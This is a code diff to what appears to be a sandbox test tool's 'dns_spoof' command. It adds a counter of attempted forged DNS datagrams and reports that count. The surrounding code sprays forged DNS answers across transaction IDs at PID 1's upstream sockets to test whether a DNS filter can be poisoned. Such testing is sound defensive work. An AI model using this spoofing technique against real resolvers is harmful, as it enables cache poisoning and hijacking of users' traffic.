@@ -1061,7 +1061,8 @@ static int find_targets(int af, const unsigned char *up, const unsigned char *al
  * queries for NAME in flight through palisade's DNS filter, finds PID 1's
  * upstream sockets in /proc/net/udp*, and sprays each with answers naming
  * FAKE under every ID. Prints "poisoned" when an answer of the filter
- * named FAKE, else "not-poisoned", with counts. */
+ * named FAKE, else "not-poisoned", with counts: datagrams tried, and sent
+ * (the others refused by the kernel, whose last error is shown). */
 static int cmd_dns_spoof(int argc, char **argv)
 {
 	if (argc < 4)
@@ -1126,7 +1127,7 @@ static int cmd_dns_spoof(int argc, char **argv)
 	}
 	enum { TARGETS = 1024, CHUNK = 256, INFLIGHT = 64 };
 	static struct target t[TARGETS];
-	unsigned long queries = 0, answers = 0, forged = 0;
+	unsigned long queries = 0, answers = 0, tried = 0, forged = 0;
 	int ports = 0, last_err = 0;
 	bool poisoned = false;
 	while (now_ms() < end && !poisoned) {
@@ -1157,6 +1158,7 @@ static int cmd_dns_spoof(int argc, char **argv)
 			uint16_t id0 = (uint16_t)random();
 			for (int k = 0; k < CHUNK; k++) {
 				put16(f, (uint16_t)(id0 + k * 257));
+				tried++;
 				if (sendto(fs, f, fl, 0, (struct sockaddr *)&to, tl) > 0)
 					forged++;
 				else
@@ -1166,8 +1168,8 @@ static int cmd_dns_spoof(int argc, char **argv)
 		if (nt == 0)
 			usleep(1000);
 	}
-	printf("%s queries=%lu answers=%lu forged=%lu ports=%d%s%s\n",
-	       poisoned ? "poisoned" : "not-poisoned", queries, answers, forged, ports,
+	printf("%s queries=%lu answers=%lu tried=%lu forged=%lu ports=%d%s%s\n",
+	       poisoned ? "poisoned" : "not-poisoned", queries, answers, tried, forged, ports,
 	       last_err ? " error=" : "", last_err ? strerrorname_np(last_err) : "");
 	return poisoned ? 0 : 1;
 }
